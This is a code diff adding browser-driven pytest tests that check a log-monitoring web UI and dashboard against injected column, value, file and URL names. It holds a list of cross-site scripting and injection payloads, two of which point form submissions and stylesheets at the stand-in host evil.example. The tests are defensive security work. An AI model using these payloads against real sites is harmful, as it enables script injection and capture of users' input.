@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import json
 import random
 import re
 import shutil
 import subprocess
 import sys
 from typing import TYPE_CHECKING, Any
+from urllib.parse import urlencode, urlsplit
 
 import pytest
+
+from tests.running import Running
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
@@ -104,3 +108,122 @@ def test_from_a_log_to_a_list_by_keyboard_alone(
     query = again.url.partition("?")[2].partition("#")[0]
     context.close()
     assert list(hindrances(chromium, f"{address}&{query}")) == []
+
+
+MARK = "window.ran=1"
+HOSTILE = (
+    f"<img src=x onerror={MARK}>",
+    f'"><script>{MARK}</script>',
+    f"' autofocus onfocus={MARK} x='",
+    f"javascript:{MARK}//",
+    "</select></form><form action=//evil.example><button>Store",
+    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
+    "{{ 7 * 7 }}${7*7}",
+    "asked",
+    "__proto__",
+    "\u202egnp.x",
+)
+
+
+def foreign_in(page: Any) -> list[str]:
+    """Elements that no template of ours has, and whether a script of a name ran."""
+    return list(
+        page.evaluate(
+            """() => [...document.querySelectorAll(
+                "img, iframe, object, base, form[action*='evil'], script:not([src]), "
+                + "[onerror], [onfocus], [onclick], [autofocus]:not(#token), "
+                + "a[href^='javascript:']")]
+                .map(one => one.outerHTML).concat(window.ran ? ["it ran"] : [])"""
+        )
+    )
+
+
+@pytest.mark.long
+def test_hostile_names_run_nothing_and_reach_nobody(chromium: Any, tmp_path: Path) -> None:
+    """Names of columns, values and files, in every part of the page and in its address."""
+    log = tmp_path / "<img src=x onerror=1>.jsonl"
+    chance = random.Random(3)
+    with log.open("w", encoding="utf-8") as file:
+        for user in range(300):
+            values = {name: f"{HOSTILE[0]}{chance.randrange(3)}" for name in HOSTILE}
+            file.write(json.dumps({"client": f"{HOSTILE[1]}{user}", **values}) + "\n")
+    command = [sys.executable, "-m", "fpmonitor", "ui", log.name, "--no-browser"]
+    context = chromium.new_context()
+    page = context.new_page()
+    page.set_default_timeout(PATIENCE)
+    asked: list[str] = []
+    faults: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("pageerror", lambda error: faults.append(str(error)))
+    page.on("dialog", lambda dialog: (faults.append("dialog"), dialog.dismiss()))
+    with subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, text=True) as running:
+        assert running.stderr is not None
+        try:
+            address = re.findall(r"http\S+", running.stderr.readline())[0]
+            page.goto(address)
+            page.wait_for_selector("#account:not([aria-busy]) table")
+            assert foreign_in(page) == []
+            page.locator('select[name="member:client"]').select_option("user")
+            page.locator(
+                "#account:not([aria-busy]) #reading button:not([disabled]) >> nth=0"
+            ).click()
+            page.wait_for_selector("#set")
+            page.locator("#all").click()
+            page.wait_for_selector("#answer:not([aria-busy]) .lead")
+            assert foreign_in(page) == []
+            assert page.locator("[name=api]").count() >= len(HOSTILE) - 1
+            page.locator("#decide button").click()
+            page.wait_for_selector("#lists")
+            page.wait_for_selector("#products:not([aria-busy])")
+            assert foreign_in(page) == []
+            site = address.partition("?")[0]
+            for query in ("api", "k", "n", "budget", "decision", "problem"):
+                page.goto(f"{site}?{urlencode({query: HOSTILE[0]})}")
+                page.wait_for_timeout(200)
+                assert foreign_in(page) == [], query
+        finally:
+            running.terminate()
+    context.close()
+    assert faults == []
+    assert {urlsplit(one).netloc for one in asked} == {urlsplit(address).netloc}
+
+
+@pytest.mark.long
+def test_hostile_names_in_the_dashboard_run_nothing_and_reach_nobody(
+    chromium: Any, tmp_path: Path
+) -> None:
+    """As a sender sends them, and as a reader is led to ask for them."""
+    lines = [
+        json.dumps({"user": f"u{user}", "api": name, "value": f"{HOSTILE[0]}{user % 3}"})
+        for user in range(100)
+        for name in HOSTILE
+    ]
+    context = chromium.new_context()
+    page = context.new_page()
+    page.set_default_timeout(PATIENCE)
+    asked: list[str] = []
+    faults: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("pageerror", lambda error: faults.append(str(error)))
+    page.on("dialog", lambda dialog: (faults.append("dialog"), dialog.dismiss()))
+    with Running(tmp_path, "page") as service:
+        assert service.post("\n".join(lines), "page").status_code == 202
+        service.settled()
+        page.goto(f"{service.address}/")
+        page.locator("[name=token]").fill(service.keys["ann"])
+        page.keyboard.press("Enter")
+        page.wait_for_selector("[name=api]")
+        for path in ("/", "/dashboard/apis", "/dashboard/live", "/dashboard/explore", "/login"):
+            for query in ("", *(f"?{urlencode({'api': name})}" for name in HOSTILE[:6])):
+                page.goto(f"{service.address}{path}{query}")
+                assert foreign_in(page) == [], (path, query)
+        page.goto(f"{service.address}/")
+        shown = page.locator("[name=api]")
+        assert shown.count() == len(HOSTILE)
+        for number in range(len(HOSTILE)):
+            shown.nth(number).check()
+        page.wait_for_timeout(1_000)
+        assert foreign_in(page) == []
+        assert {urlsplit(one).netloc for one in asked} == {f"localhost:{service.port}"}
+    context.close()
+    assert faults == []
